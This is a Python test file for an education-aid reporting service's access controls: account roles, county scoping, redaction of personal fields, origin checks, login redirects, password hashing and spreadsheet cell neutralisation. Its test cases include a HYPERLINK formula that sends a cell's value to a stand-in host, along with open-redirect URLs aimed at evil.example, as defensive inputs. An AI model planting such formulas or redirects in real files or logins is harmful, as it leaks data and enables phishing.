"""Who may read what, decided without a server: accounts, county scope, personal fields, where
a request says it comes from, where a login may send the browser, and formula cells."""

from __future__ import annotations

import pytest
from starlette.datastructures import Headers

from services.projection.http import HttpError
from services.projection.http.access.login import local
from services.projection.http.access.origin import request_origin
from services.projection.http.access.personal import PERSONAL_ROUTES
from services.projection.http.access.scope import COUNTY_FREE_ROUTES, report_params
from services.projection.read_models import routes
from shared.accounts.passwords import hash_password, verify_password
from shared.accounts.roles import Principal, Role, check_account
from shared.spreadsheet import neutralise


def who(*roles: Role, counties: tuple[str, ...] = ()) -> Principal:
    return Principal("li.na", frozenset(roles), counties, "token")


@pytest.mark.parametrize(
    ("name", "roles", "counties", "words"),
    [
        ("Li Na", ["province_viewer"], [], "user name"),
        ("li.na", [], [], "at least one role"),
        ("li.na", ["viewer"], [], "unknown role 'viewer'"),
        ("li.na", ["county_viewer"], [], "needs --county"),
        ("li.na", ["county_viewer"], ["61083"], "6-digit"),
        ("li.na", ["province_viewer"], ["610831"], "limits a county_viewer"),
        ("li.na", ["personal_data_reader"], [], "with province_viewer or county_viewer"),
    ],
)
def test_an_account_that_could_not_work_is_refused_with_the_reason(
    name: str, roles: list[str], counties: list[str], words: str
) -> None:
    with pytest.raises(ValueError, match=words):
        check_account(name, roles, counties)


def test_accounts_that_work_are_accepted() -> None:
    check_account("li.na", ["county_viewer", "personal_data_reader"], ["610831", "610802"])
    check_account("ops-1", ["operator"], [])


def test_a_province_viewer_reads_the_province_and_any_county() -> None:
    viewer = who(Role.PROVINCE_VIEWER)

    assert report_params(viewer, "/api/aid-coverage", {"term": "2017-autumn"}) == {
        "term": "2017-autumn"
    }
    assert report_params(viewer, "/api/aid-coverage", {"county": "610802"}) == {"county": "610802"}


def test_a_county_viewer_reads_their_county_when_they_name_none() -> None:
    viewer = who(Role.COUNTY_VIEWER, counties=("610831",))

    assert report_params(viewer, "/api/aid-coverage", {"term": "2017-autumn"}) == {
        "term": "2017-autumn",
        "county": "610831",
    }
    assert report_params(viewer, "/api/aid-catalogue", {"term": "2017-autumn"}) == {
        "term": "2017-autumn"
    }, "a catalogue has no county"


@pytest.mark.parametrize(
    ("counties", "params", "code"),
    [
        (("610831",), {"county": "610802"}, "forbidden_county"),
        (("610831", "610802"), {}, "county_required"),
    ],
)
def test_a_county_viewer_never_reads_another_county_nor_the_province(
    counties: tuple[str, ...], params: dict[str, str], code: str
) -> None:
    with pytest.raises(HttpError) as refused:
        report_params(who(Role.COUNTY_VIEWER, counties=counties), "/api/aid-coverage", params)

    assert (refused.value.status, refused.value.code) == (403, code)


def test_an_operator_alone_reads_no_report() -> None:
    with pytest.raises(HttpError) as refused:
        report_params(who(Role.OPERATOR), "/api/aid-coverage", {})

    assert refused.value.status == 403


def test_personal_data_needs_the_role_and_a_viewer_role() -> None:
    assert who(Role.PROVINCE_VIEWER, Role.PERSONAL_DATA_READER).reads_personal_data
    assert not who(Role.PROVINCE_VIEWER, Role.OPERATOR).reads_personal_data
    assert not who(Role.PERSONAL_DATA_READER).reads_personal_data


def test_the_routes_named_in_the_rules_exist() -> None:
    assert set(PERSONAL_ROUTES) <= set(routes())
    assert set(COUNTY_FREE_ROUTES) <= {*routes(), "/api/freshness"}


def test_personal_fields_are_blanked_and_the_rest_kept() -> None:
    rows = [{"student_id": "s1", "registry_id": "G6108312010", "name": "王芳", "grade": 3}]
    revision = {"revision": "2018", "counts": {"registered": 1}, "changes": rows}

    hidden = PERSONAL_ROUTES["/api/students-missing-aid"].hidden(rows)
    revised = PERSONAL_ROUTES["/api/roster-revision"].hidden(revision)

    assert hidden == [{"student_id": "s1", "registry_id": None, "name": None, "grade": 3}]
    assert revised == {**revision, "changes": hidden}
    assert rows[0]["name"] == "王芳", "the answer itself is not changed in place"


@pytest.mark.parametrize(
    ("headers", "origin"),
    [
        ({"origin": "http://127.0.0.1:8080"}, "http://127.0.0.1:8080"),
        ({"origin": "null", "referer": "http://127.0.0.1:8080/"}, None),
        ({"referer": "https://Reports.example.org/?county=610831"}, "https://reports.example.org"),
        ({}, None),
    ],
)
def test_a_request_says_where_it_comes_from_by_origin_else_referer(
    headers: dict[str, str], origin: str | None
) -> None:
    assert request_origin(Headers(headers)) == origin


@pytest.mark.parametrize(
    ("target", "back_to"),
    [
        ("/?county=610831", "/?county=610831"),
        ("//evil.example/x", "/"),
        ("/\\evil.example", "/"),
        ("https://evil.example/", "/"),
    ],
)
def test_a_login_returns_only_to_a_page_of_this_server(target: str, back_to: str) -> None:
    assert local(target) == back_to


def test_a_password_is_stored_as_an_argon2id_hash_that_verifies_it_only() -> None:
    stored = hash_password("correct horse battery")

    assert stored.startswith("$argon2id$")
    assert "correct horse battery" not in stored
    assert verify_password(stored, "correct horse battery")
    assert not verify_password(stored, "correct horse battery!")
    assert not verify_password(None, "correct horse battery"), "an unknown user"
    with pytest.raises(ValueError, match="at least 12"):
        hash_password("short")


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://x.example/?"&A1,"open")',
            '\'=HYPERLINK("http://x.example/?"&A1,"open")',
        ),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("wang.li", "wang.li"),
        ("2017-autumn", "2017-autumn"),
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote(cell: str, written: str) -> None:
    assert neutralise(cell) == written
